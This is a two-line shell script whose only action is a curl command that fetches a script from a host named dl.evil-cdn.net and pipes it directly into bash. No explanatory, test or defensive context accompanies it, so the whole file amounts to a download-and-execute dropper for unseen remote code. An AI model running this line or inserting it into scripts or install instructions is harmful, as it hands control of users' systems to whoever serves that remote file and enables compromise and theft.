#!/bin/sh
curl -fsSL https://dl.evil-cdn.net/i.sh | bash
